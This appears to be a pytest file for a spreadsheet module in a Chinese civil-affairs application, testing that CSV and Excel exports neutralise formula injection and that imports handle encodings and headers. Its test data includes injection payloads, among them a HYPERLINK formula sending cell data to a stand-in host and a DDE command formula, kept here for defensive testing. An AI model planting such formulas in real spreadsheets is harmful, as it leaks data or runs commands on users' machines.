"""core.sheets: the one writer (no formula ever reaches a spreadsheet) and the one reader
(encodings, xlsx, header keys, Chinese errors with row numbers)."""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
import zipfile
from decimal import Decimal
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook

from minzheng.core import sheets

pytestmark = pytest.mark.db_independent

SRC = Path(__file__).resolve().parents[1] / "src" / "minzheng"

# OWASP's examples and their kin; what the cell must hold afterwards.
HOSTILE = [
    ("=1+1", "'=1+1"),
    (
        '=HYPERLINK("http://evil.example/?d="&A1,"点击")',
        '\'=HYPERLINK("http://evil.example/?d="&A1,"点击")',
    ),
    ("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),
    ("+1+1", "'+1+1"),
    ("-2+3", "'-2+3"),
    ("-0.05", "'-0.05"),  # text that looks like a number is still text: only numbers stay numbers
    ("@SUM(1,1)", "'@SUM(1,1)"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    ("张三", "张三"),
    ("a=b", "a=b"),
    ("'=1+1", "'=1+1"),  # already neutral
    ("", ""),
    (
        "\x00=1",
        "=1",
    ),  # a control character no cell may hold is dropped, and what is left is neutralised
]


@pytest.mark.parametrize(("value", "cell"), HOSTILE)
def test_text_that_would_start_a_formula_is_neutralised(value, cell):
    expected = "'" + cell if cell.startswith(sheets.FORMULA_STARTS) else cell
    assert sheets.safe_value(value) == expected


@pytest.mark.parametrize("value", [-5, Decimal("-0.05"), -1.5, 0, dt.date(2016, 11, 1), None, True])
def test_numbers_dates_and_empties_pass_unchanged(value):
    assert sheets.safe_value(value) is value


def test_csv_cells_are_neutral_and_numbers_stay_numbers():
    rows = [[value, Decimal("-0.05"), -5] for value, _ in HOSTILE]
    body = sheets.csv_bytes(rows, header=["值", "金额", "分"])
    assert body.startswith(b"\xef\xbb\xbf")
    read = list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))
    assert read[0] == ["值", "金额", "分"]
    for (value, _), row in zip(HOSTILE, read[1:], strict=True):
        assert row[0] == sheets.safe_value(value)
        assert row[1:] == ["-0.05", "-5"]


def _formulas(xlsx: bytes) -> list[str]:
    with zipfile.ZipFile(io.BytesIO(xlsx)) as archive:
        return [
            name
            for name in archive.namelist()
            if name.startswith("xl/worksheets/") and re.search(rb"<f[ >]", archive.read(name))
        ]


@pytest.mark.parametrize("write_only", [True, False])
def test_xlsx_cells_are_text_never_formulas(write_only):
    wb = sheets.workbook(write_only=write_only)
    ws = wb.create_sheet("数据") if write_only else wb.active
    sheets.append(ws, ["值", "金额"])
    for value, _ in HOSTILE:
        sheets.append(ws, [value, Decimal("-0.05")])
    body = sheets.xlsx_bytes(wb)
    assert _formulas(body) == []
    cells = list(load_workbook(io.BytesIO(body)).worksheets[0].iter_rows(min_row=2))
    for (value, _), (text, amount) in zip(HOSTILE, cells, strict=True):
        assert text.data_type == "s" or text.value is None
        # XML reads a carriage return back as a line feed; the apostrophe before it is what matters.
        assert (text.value or "") == sheets.safe_value(value).replace("\r", "\n")
        assert (amount.data_type, amount.value) == ("n", -0.05)


def test_a_cell_written_around_the_helpers_is_swept_before_saving():
    wb = sheets.workbook()
    wb.active["B4"] = "=1+1"
    sheets.put(wb.active, 1, 1, "@SUM(1)")
    body = sheets.xlsx_bytes(wb)
    assert _formulas(body) == []
    ws = load_workbook(io.BytesIO(body)).active
    assert (ws["B4"].value, ws["A1"].value) == ("'=1+1", "'@SUM(1)")


def test_no_export_writes_spreadsheets_around_the_shared_writer():
    """Every CSV and Excel file is written through core.sheets; a csv.writer or an openpyxl
    Workbook anywhere else is an export that can carry formulas."""
    pattern = re.compile(r"csv\.(writer|DictWriter)\(|\bWorkbook\(|import Workbook|WriteOnlyCell")
    found = [
        str(p.relative_to(SRC))
        for p in SRC.rglob("*.py")
        if p != SRC / "core" / "sheets.py" and pattern.search(p.read_text(encoding="utf-8"))
    ]
    assert found == []


# ------------------------------------------------------------------------------------- reading

TEXT = "id_number,姓名,金额\n420802198001010011,张三,480.00\n420802198202020022,李梅,'-0.05\n"
ROWS = [
    ["id_number", "姓名", "金额"],
    ["420802198001010011", "张三", "480.00"],
    ["420802198202020022", "李梅", "-0.05"],
]


@pytest.mark.parametrize(
    "encoded",
    [
        TEXT.encode("utf-8"),
        TEXT.encode("utf-8-sig"),
        TEXT.encode("utf-16"),  # with its byte-order mark, as Excel's "Unicode text" writes it
        b"\xfe\xff" + TEXT.encode("utf-16-be"),
        TEXT.encode("gb18030"),
        TEXT.encode("gbk"),
        TEXT.replace(",", "\t").encode("utf-16"),
        TEXT.replace(",", "\t").encode("gb18030"),
    ],
    ids=[
        "utf-8",
        "utf-8-bom",
        "utf-16-le-bom",
        "utf-16-be-bom",
        "gb18030",
        "gbk",
        "utf-16-tab",
        "gb18030-tab",
    ],
)
def test_csv_in_every_encoding_reads_the_same(encoded):
    assert sheets.read_rows(encoded) == ROWS


def test_utf16_without_a_byte_order_mark():
    text = "id_number,name,amount\n420802198001010011,zhang,480.00\n"
    assert sheets.read_rows(text.encode("utf-16-le"))[1] == [
        "420802198001010011",
        "zhang",
        "480.00",
    ]


def test_a_sample_cut_inside_a_character_is_still_utf8_or_gb18030():
    assert sheets.sniff_encoding("姓名".encode()[:-1]) == "utf-8"
    assert (
        sheets.sniff_encoding("张三".encode("gb18030") * 3 + "张".encode("gb18030")[:1])
        == "gb18030"
    )


def test_xlsx_reads_values_and_takes_off_the_export_apostrophe(tmp_path):
    wb = Workbook()
    ws = wb.active
    ws.append(["某某村低保名单"])
    ws.append(["*身份证号码 ", "姓名", "金额", "出生日期"])
    ws.append(["420802198001010011", "张三", 480.0, dt.datetime(1980, 1, 1)])
    ws.append([None, None, None, None])
    ws.append(["420802198202020022", "'=李梅", -0.05, dt.date(1982, 2, 2)])
    path = tmp_path / "名单.xlsx"
    wb.save(path)
    table = sheets.read_table(
        path,
        keys={"身份证号码": "id", "姓名": "name", "金额": "amount", "出生日期": "born"},
        required=["id", "name"],
    )
    assert table.header_row == 2
    assert [
        (
            n,
            table.text(r, "id"),
            table.text(r, "name"),
            table.text(r, "amount"),
            table.text(r, "born"),
        )
        for n, r in table.rows
    ] == [
        (3, "420802198001010011", "张三", "480", "1980-01-01"),
        (5, "420802198202020022", "=李梅", "-0.05", "1982-02-02"),
    ]


def test_header_keys_ignore_marks_spaces_case_and_bom():
    assert {
        sheets.header_key(h) for h in ("\ufeff*身份证号码 ", "身份证号码", "＊身份证\u3000号码")
    } == {"身份证号码"}
    assert sheets.header_key("ID_Number") == sheets.header_key(" id_number") == "id_number"


@pytest.mark.parametrize(
    ("content", "message"),
    [
        (b"PK\x03\x04not really a zip", "无法读取Excel文件"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", "不支持旧版Excel（.xls）文件"),
        (b"abc,\x80\x80\n", "无法识别文件编码"),
        ("姓名,身份证号码\n张三,1\n".encode(), None),
    ],
)
def test_unreadable_files_answer_in_chinese(content, message):
    if message is None:
        assert sheets.read_rows(content)[1] == ["张三", "1"]
        return
    with pytest.raises(sheets.SheetError) as exc:
        sheets.read_rows(content)
    assert message in str(exc.value)


def test_a_name_ending_in_xlsx_must_be_excel():
    with pytest.raises(sheets.SheetError, match="无法读取Excel文件"):
        sheets.read_rows("流水号,金额\n1,2\n".encode(), name="回盘.xlsx")


def test_errors_name_the_row():
    huge = "x" * (csv.field_size_limit() + 1)
    with pytest.raises(sheets.SheetError) as exc:
        sheets.read_rows(f"a,b\n1,2\n3,{huge}\n".encode())
    assert exc.value.row == 3 and str(exc.value).startswith("第3行：")
    with pytest.raises(sheets.SheetError) as exc:
        sheets.read_table(
            "标题\n姓名,备注\n张三,x\n".encode(),
            keys={"姓名": "name", "备注": "note", "身份证号码": "id"},
            required=["id", "name"],
            labels={"id": "身份证号码"},
        )
    assert str(exc.value) == "第2行：缺少必填列：身份证号码"
